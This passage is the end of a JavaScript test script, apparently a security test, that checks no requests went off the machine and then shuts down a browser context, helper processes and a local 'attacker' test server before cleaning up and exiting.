  check(offMachine.length === 0, `nothing was requested off this machine (${offMachine.slice(0, 5).join(', ')})`);
} finally {
  await context.close().catch(() => {});
  serve.child.kill();
  double.child.kill();
  attacker.close();
  await cleanup(profile, workspace);
}
process.exit(failed() ? 1 : 0);
